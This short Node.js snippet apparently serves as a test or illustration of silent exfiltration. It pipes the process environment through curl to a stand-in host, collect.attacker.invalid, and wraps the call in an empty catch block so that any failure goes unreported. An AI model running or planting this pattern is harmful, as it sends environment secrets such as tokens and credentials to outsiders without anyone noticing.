// Prints the environment and posts it to a name that nothing answers.
const { execSync } = require('node:child_process');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

attempt(() => execSync('env | curl -s -m 5 --data-binary @- http://collect.attacker.invalid/'));
